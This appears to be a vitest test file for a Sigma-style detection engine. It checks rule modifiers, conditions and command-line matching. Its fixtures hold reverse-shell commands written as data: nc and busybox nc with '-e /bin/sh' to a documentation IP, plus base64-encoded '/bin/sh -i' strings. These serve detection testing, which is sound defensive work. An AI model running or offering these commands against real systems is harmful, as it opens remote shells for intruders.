/** What modifiers, values and absent fields mean. */
import { describe, expect, it } from 'vitest';
import type { Observation } from '../../src/model/observation.ts';
import { loadOne, select } from '../support/one-rule.ts';
import { flowEvent, processEvent, processes } from '../support/rule-observations.ts';

const run = (binary: string, args = '', more = {}): Observation =>
  processEvent({
    process: processes({ binary, arguments: args, ...more }, { binary: '/usr/sbin/nginx', arguments: '' }),
  });
const nc = run('/usr/bin/nc', '-e /bin/sh 203.0.113.9 443', { uid: 33, cwd: '/tmp' });
const to = (ip: string, names: string[] = [], port = 443): Observation => flowEvent({ server: { ip, names, port } });
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64');

describe('modifiers', () => {
  const cases: readonly (readonly [string, unknown, Observation, boolean])[] = [
    ['process.binary', '/usr/bin/nc', nc, true],
    ['process.binary', '/USR/BIN/NC', nc, true],
    ['process.binary|cased', '/USR/BIN/NC', nc, false],
    ['process.binary', '*/n?', nc, true],
    ['process.binary', '*/n', nc, false],
    ['process.binary', '\\*/nc', nc, false],
    ['process.binary', '\\*/nc', run('*/nc'), true],
    ['process.arguments', 'a\\\\*', run('/bin/a', 'a\\b'), true],
    ['process.binary|name', 'nc', nc, true],
    ['process.binary|name', 'bin/nc', nc, false],
    ['process.name', ['ncat', 'nc'], nc, true],
    ['process.arguments|contains', ['-c', '-e'], nc, true],
    ['process.arguments|contains|all', ['-c', '-e'], nc, false],
    ['process.arguments|contains|all', ['/bin/sh', '-e'], nc, true],
    ['process.arguments|startswith', '-e', nc, true],
    ['process.arguments|endswith', '443', nc, true],
    ['process.arguments|re', '^-[ec]\\s', nc, true],
    ['process.arguments|re', '^-E', nc, false],
    ['process.arguments|re|i', '^-E', nc, true],
    ['process.arguments|re|s', 'a.b', run('/bin/a', 'a\nb'), true],
    ['process.arguments|re', 'a.b', run('/bin/a', 'a\nb'), false],
    ['process.arguments|re|m', '^b$', run('/bin/a', 'a\nb'), true],
    ['process.uid', 33, nc, true],
    ['process.uid', ['0', '33'], nc, true],
    ['process.uid|gte', 33, nc, true],
    ['process.uid|gt', 33, nc, false],
    ['process.uid|lt', 1000, nc, true],
    ['process.uid|lte', 32, nc, false],
    ['process.uid|neq', 0, nc, true],
    ['process.user|neq', 'root', nc, false],
    ['process.user', null, nc, true],
    ['process.user|exists', false, nc, true],
    ['process.cwd|exists', true, nc, true],
    ['process.user', [null, 'root'], nc, true],
    ['process.start_time|gt', '2020-01-01T00:00:00Z', nc, true],
    ['parent.name', 'nginx', nc, true],
    ['parent.binary|fieldref', 'process.binary', nc, false],
    ['process.arguments|fieldref|startswith', ['process.cwd', 'process.binary'], run('/bin/x', '/bin/x y'), true],
    ['flow.destination.ip|cidr', ['10.0.0.0/8', '203.0.113.0/24'], to('203.0.113.9'), true],
    ['flow.destination.ip|cidr', '203.0.113.0/25', to('203.0.113.200'), false],
    ['flow.destination.ip|cidr', '2001:db8::/32', to('2001:db8:1::5'), true],
    ['flow.destination.ip|cidr', '10.0.0.0/8', to('::ffff:10.1.2.3'), true],
    ['flow.destination.ip|cidr', '0.0.0.0/0', to('2001:db8::1'), false],
    [
      'flow.destination.names|endswith',
      '.amazonaws.com',
      to('192.0.2.1', ['b.example.org', 'x.s3.amazonaws.com']),
      true,
    ],
    ['flow.destination.port', [80, 443], to('192.0.2.1'), true],
    [
      'process.arguments|base64offset|contains',
      '/bin/sh',
      run('/bin/sh', `-c "echo ${base64('xx /bin/sh -i')}"`),
      true,
    ],
    ['process.arguments|base64offset|contains', '/bin/sh', run('/bin/sh', `-c "echo ${base64('x /bin/sh -i')}"`), true],
    ['process.arguments|base64offset|contains', '/bin/sh', run('/bin/sh', `-c "echo ${base64('/bin/sh')}"`), true],
    ['process.arguments|base64|contains', '/bin/sh', run('/bin/sh', base64('/bin/sh')), true],
    ['process.arguments|wide|base64offset|contains', 'whoami', run('/bin/x', base64('a whoami', 'utf16le')), true],
    [
      'process.arguments|utf16be|base64offset|contains',
      'whoami',
      run('/bin/x', Buffer.from('a whoami', 'utf16le').swap16().toString('base64')),
      true,
    ],
    ['process.arguments|windash|contains', ' -enc', run('/bin/pwsh', 'x /enc'), true],
    ['ancestors|any', { 'process.name': ['nginx', 'httpd'] }, nc, true],
    ['ancestors|any', { 'process.name': 'nc' }, nc, false],
    ['ancestors|any', [{ 'process.name': 'nc' }, { 'process.binary|endswith': 'nginx' }], nc, true],
  ];
  it.each(cases)('%s: %j', (key, value, observation, expected) => {
    expect(select({ [key]: value })(observation)).toBe(expected);
  });

  it('expand lists, several in one value', () => {
    const lists = { dirs: ['/bin', '/usr/bin'], tools: ['nc', 'ncat'] };
    expect(select({ 'process.binary|expand': '%dirs%/%tools%' }, { lists })(nc)).toBe(true);
    expect(select({ 'process.binary|expand': '/opt/%tools%' }, { lists })(nc)).toBe(false);
  });
});

describe('absent fields', () => {
  const none = processEvent({ process: null });
  const conditions: readonly (readonly [string, unknown, boolean])[] = [
    ['process.name', 'x', false],
    ['process.name|neq', 'x', false],
    ['process.uid|neq', 0, false],
    ['process.uid|lt', 5, false],
    ['process.arguments|re', '.*', false],
    ['process.binary|fieldref', 'process.cwd', false],
    ['process.in_init_tree', false, false],
    ['ancestors|any', { 'process.name|exists': false }, false],
  ];
  it.each(conditions)('%s: %j is false, and not makes it true', (key, value) => {
    expect(select({ [key]: value })(none)).toBe(false);
    const { test } = loadOne({ detection: { selection: { [key]: value }, condition: 'not selection' } });
    expect(test(none)).toBe(true);
  });
});

describe('conditions', () => {
  const detection = { sel_a: { 'process.name': 'nc' }, sel_b: { 'process.uid': 33 }, sel_c: { 'process.uid': 0 } };
  const cases: readonly (readonly [string, boolean])[] = [
    ['sel_a and sel_b and not sel_c', true],
    ['sel_c or sel_a and sel_b', true],
    ['(sel_c or sel_a) and not sel_b', false],
    ['1 of sel_*', true],
    ['2 of them', true],
    ['3 of them', false],
    ['all of sel_*', false],
    ['NOT all of them AND any of them', true],
  ];
  it.each(cases)('%s', (condition, expected) => {
    const all = { ...detection, condition: `(${condition}) and not (sel_a and sel_b and sel_c)` };
    expect(loadOne({ detection: all }).errors).toEqual([]);
    expect(loadOne({ detection: all }).test(nc)).toBe(expected);
  });

  it('take keywords from anywhere in the event', () => {
    expect(select(['203.0.113.9', 'nothing'])(nc)).toBe(true);
    expect(select({ '|all': ['203.0.113.9', 'nothing'] })(nc)).toBe(false);
  });

  it('name macros, own and shared', () => {
    const { test, errors } = loadOne({
      macros: { shell: { 'process.name': 'nc' } },
      detection: { s: { 'process.uid': 33 }, condition: 's and shell' },
    });
    expect(errors).toEqual([]);
    expect(test(nc)).toBe(true);
  });
});

describe('command lines', () => {
  const sh = run('/bin/sh', '-c "id; uname -a" x');
  it.each([
    '/bin/sh -c "id; uname -a" x',
    'sh -c "id; uname -a" x',
    '/bin/sh -c id; uname -a x',
    'sh -c id; uname -a x',
  ])('match as %s', form => {
    expect(select({ 'process.command_line': form })(sh)).toBe(true);
  });

  it('name the applet of busybox', () => {
    expect(select({ 'process.name': 'nc' })(run('/bin/busybox', 'nc -e sh'))).toBe(true);
    expect(select({ 'process.name': 'busybox' })(run('/bin/busybox', '--list'))).toBe(true);
  });
});

it('reads Sigma names without taxonomy: spoor, and only then', () => {
  const sigma = {
    detection: { s: { 'Image|endswith': '/nc', ParentImage: '/usr/sbin/nginx', User: '33' }, condition: 's' },
  };
  expect(loadOne({ ...sigma, taxonomy: undefined }).test(nc)).toBe(true);
  const [error] = loadOne(sigma).errors;
  expect(error).toMatchObject({ code: 'unknown-field', line: 6, hint: expect.stringContaining('process.binary') });
});
